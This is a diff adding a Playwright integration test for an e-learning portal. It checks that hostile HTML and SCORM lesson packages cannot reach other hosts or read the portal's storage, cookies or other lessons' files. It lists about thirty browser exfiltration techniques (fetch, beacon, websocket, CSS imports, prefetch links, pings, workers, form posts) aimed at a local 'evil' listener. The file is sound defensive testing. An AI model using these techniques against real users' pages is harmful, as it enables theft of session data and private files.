@@ -1,0 +1,240 @@
+"""A hostile package gets nothing of the portal, of the student's sign-in and of other lessons, and sends nothing away.
+
+docs/packages.md says what remains possible.
+"""
+
+from collections.abc import Iterator, Mapping
+from dataclasses import dataclass
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+from tests import package_zips, playable_packages
+from tests.integration.support.browser import NO_THIRD_PARTY_COOKIES, Browser, browser_of
+from tests.integration.support.deployed import Deployed
+from tests.integration.support.listener import Listener, listener
+from tests.integration.support.people import People, SharedUsers
+from tests.integration.support.player_page import Packaged, Played
+
+if TYPE_CHECKING:
+    from playwright import sync_api
+
+pytestmark = pytest.mark.intrusive
+
+PAGE = b"<!doctype html><html lang=en><title>Hostile</title><h1>Hostile</h1></html>"
+PACKAGES = {
+    "html": package_zips.zip_of({"index.html": PAGE, "sw.js": b"addEventListener('fetch', () => {})"}),
+    "scorm": package_zips.scorm_12(
+        files={"start.html": PAGE, "sw.js": b"addEventListener('fetch', () => {})"}
+    ),
+}
+# How long what a package started may take to reach the other host, in milliseconds.
+ARRIVAL = 1500
+
+# Ways to send something to `to`, an address of another host. None may arrive there.
+WAYS_OUT = {
+    "fetch": "fetch(to, {mode: 'no-cors'})",
+    "xhr": "new Promise((done) => { const sent = new XMLHttpRequest(); sent.onloadend = done;"
+    "sent.open('GET', to); sent.send(); })",
+    "beacon": "navigator.sendBeacon(to, 'x')",
+    "websocket": "new WebSocket(to.replace('http', 'ws'))",
+    "eventsource": "new EventSource(to)",
+    "image": "new Image().src = to",
+    "script": "import(to)",
+    "import": "add('style', {textContent: `@import url(${to})`})",
+    "background": "add('style', {textContent: `body { background: url(${to}) }`})",
+    "font": "new FontFace('x', `url(${to})`).load()",
+    "film": "add('video', {src: to})",
+    "poster": "add('video', {poster: to})",
+    "object": "add('object', {data: to})",
+    "frame": "add('iframe', {src: to})",
+    "srcdoc": "add('iframe', {srcdoc: `<img src='${to}'>`})",
+    "data": "add('iframe', {src: `data:text/html,<img src='${to}'>`})",
+    "form-in-frame": "add('iframe', {name: 'f'}) && "
+    "add('form', {action: to, method: 'post', target: 'f'}).submit()",
+    "stylesheet": "add('link', {rel: 'stylesheet', href: to})",
+    "prefetch": "add('link', {rel: 'prefetch', href: to})",
+    "preload": "add('link', {rel: 'preload', as: 'image', href: to})",
+    "modulepreload": "add('link', {rel: 'modulepreload', href: to})",
+    "dns-prefetch": "add('link', {rel: 'dns-prefetch', href: to})",
+    "preconnect": "add('link', {rel: 'preconnect', href: to})",
+    "icon": "add('link', {rel: 'icon', href: to})",
+    "speculation": "add('script', {type: 'speculationrules', textContent: JSON.stringify("
+    "{prefetch: [{urls: [to], eagerness: 'immediate'}]})})",
+    "ping": "add('a', {href: '#x', ping: to}).click()",
+    "download": "add('a', {href: to, download: 'x'}).click()",
+    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${to}')`])))",
+}
+# What reaches the other host from a page without a policy: else the listener would prove nothing.
+HEARD = {
+    "fetch", "xhr", "beacon", "websocket", "eventsource", "image", "script", "import", "background", "font", "film",
+    "poster", "object", "frame", "srcdoc", "form-in-frame", "stylesheet", "prefetch", "preload", "modulepreload",
+    "speculation", "ping", "worker",
+}  # fmt: skip
+# Ways that leave the page. Each is tried alone.
+MOVES = {
+    "top": "top.location = to",
+    "top-link": "add('a', {href: to, target: '_top'}).click()",
+    "own": "location = to",
+    "refresh": "add('meta', {httpEquiv: 'refresh', content: `0;url=${to}`})",
+    "form": "add('form', {action: to, method: 'post'}).submit()",
+}
+# Only pages in an origin of their own are kept from these: SCORM packages may open windows.
+WINDOWS = {
+    "window": "open(to)",
+    "window-link": "add('a', {href: to, target: '_blank'}).click()",
+}
+TRY = """async ([evil, ways]) => {
+  const add = (name, values) => document.body.appendChild(Object.assign(document.createElement(name), values));
+  const outcomes = {};
+  for (const [name, way] of Object.entries(ways)) {
+    const to = `${evil}/${name}`;
+    try { eval(way)?.catch?.(() => {}); } catch (error) { outcomes[name] = error.name; }
+  }
+  return outcomes;
+}"""
+
+
+@dataclass(frozen=True)
+class Hostile:
+    """A hostile package that is open, and the host to which it would send things."""
+
+    played: Played
+    evil: Listener
+
+    @property
+    def frame(self) -> "sync_api.Frame":
+        """The package's page."""
+        return self.played.player.child_frames[0]
+
+    @property
+    def is_scorm(self) -> bool:
+        """Whether it shares the player's origin."""
+        return bool(self.frame.evaluate("self.origin") != "null")
+
+    def tries(self, script: str) -> Any:
+        """What an expression gives in the package's page, or the name of the error."""
+        return self.frame.evaluate(
+            "async (tried) => { try { return await eval(tried); } catch (error) { return error.name; } }",
+            script,
+        )
+
+    def sends(self, ways: Mapping[str, str]) -> list[str]:
+        """What arrives at the other host when the package tries these ways."""
+        self.evil.heard.clear()
+        # A way may lead away from the page before it has returned.
+        self.frame.evaluate(f"(given) => void setTimeout({TRY}, 0, given)", [self.evil.address, dict(ways)])
+        self.played.page.wait_for_timeout(ARRIVAL)
+        return sorted(self.evil.heard)
+
+
+@pytest.fixture(scope="module")
+def chromium(deployed: Deployed) -> Iterator[Browser]:
+    """A browser that blocks third-party cookies."""
+    with browser_of(deployed, NO_THIRD_PARTY_COOKIES) as running:
+        yield running
+
+
+@pytest.fixture(scope="module")
+def packages(deployed: Deployed, users: SharedUsers, people: People) -> dict[str, Packaged]:
+    """The hostile packages, and a harmless one that they would like to read."""
+    student = people.new()
+    made = {**PACKAGES, "other": playable_packages.html_package()}
+    return {name: Packaged.of(deployed, users.owner, student, each) for name, each in made.items()}
+
+
+@pytest.fixture(params=PACKAGES)
+def hostile(
+    request: pytest.FixtureRequest, packages: dict[str, Packaged], chromium: Browser
+) -> Iterator[Hostile]:
+    """Each hostile package, opened."""
+    with listener() as evil:
+        played = packages[request.param].play(chromium, saves=False)
+        played.frame()
+        yield Hostile(played, evil)
+        played.page.context.close()
+
+
+def test_the_other_host_hears_what_a_page_without_a_policy_sends(chromium: Browser) -> None:
+    """The proof that the next test would see it."""
+    with listener() as evil:
+        page = chromium.page("http://localhost:3998/", PAGE.decode())
+        page.evaluate(TRY, [evil.address, WAYS_OUT])
+        page.wait_for_timeout(ARRIVAL)
+        page.context.close()
+    heard = {line.split()[1].lstrip("/") for line in evil.heard}
+    assert heard >= HEARD
+
+
+def test_nothing_is_sent_to_another_host(hostile: Hostile) -> None:
+    assert hostile.sends(WAYS_OUT) == []
+
+
+@pytest.mark.parametrize("move", MOVES)
+def test_no_page_of_another_host_is_opened(hostile: Hostile, move: str) -> None:
+    before = hostile.played.page.url
+    assert hostile.sends({move: MOVES[move]}) == []
+    assert hostile.played.page.url == before
+
+
+def test_only_scorm_packages_open_windows(hostile: Hostile) -> None:
+    """Old SCORM packages run in a window of their own. docs/packages.md names what that leaves possible."""
+    is_scorm = hostile.is_scorm
+    arrived = hostile.sends(WINDOWS)
+    assert bool(arrived) is is_scorm
+    assert len(hostile.played.page.context.pages) == (3 if is_scorm else 1)
+
+
+def test_nothing_of_the_portal_can_be_read(hostile: Hostile) -> None:
+    portal = {
+        name: hostile.tries(script)
+        for name, script in {
+            "document": "top.document.title",
+            "address": "top.location.href",
+            "storage": "top.localStorage.length",
+            "session": "top.sessionStorage.length",
+            "variable": "top.seen",
+        }.items()
+    }
+    assert set(portal.values()) == {"SecurityError"}
+
+
+def test_html_packages_have_no_storage_and_do_not_see_the_player(hostile: Hostile) -> None:
+    tried = {
+        name: hostile.tries(script)
+        for name, script in {
+            "player": "parent.document.title",
+            "storage": "localStorage.length",
+            "session": "sessionStorage.length",
+            "cookie": "document.cookie",
+            "database": "String(indexedDB.open('x'))",
+            "caches": "caches.keys()",
+        }.items()
+    }
+    if hostile.is_scorm:
+        assert tried["player"] == "Player"
+        assert tried["cookie"] == ""
+    else:
+        assert set(tried.values()) == {"SecurityError"}
+
+
+def test_no_service_worker_is_registered(hostile: Hostile) -> None:
+    """Not in the package's folder, and not by a page that a window shows outside of the player."""
+    assert hostile.tries("navigator.serviceWorker.register('sw.js')") in ("SecurityError", "TypeError")
+
+
+def test_the_api_is_not_called(hostile: Hostile, deployed: Deployed) -> None:
+    """Neither as the student nor as nobody: the content's policy names no other host."""
+    api = deployed.outputs["api_endpoint"]
+    assert hostile.tries(f"fetch('{api}/courses', {{credentials: 'include'}})") == "TypeError"
+    assert hostile.tries(f"navigator.sendBeacon('{api}/courses', 'x') && 'sent'") in ("sent", False)
+
+
+def test_files_of_other_lessons_are_refused(hostile: Hostile, packages: dict[str, Packaged]) -> None:
+    """With the package's own token, and at the stored path."""
+    other = packages["other"]
+    theirs = other.student.get(f"{other.path}/content")["url"].split("/p/")[1].split("/", 1)[1]
+    own = hostile.frame.url.split("/p/")[1].split("/")[0]
+    for address in (f"/p/{own}/{theirs}", f"/packages/{theirs}"):
+        tried = f"fetch(new URL('{address}', location.href)).then((answer) => answer.status)"
+        assert hostile.tries(tried) == 403
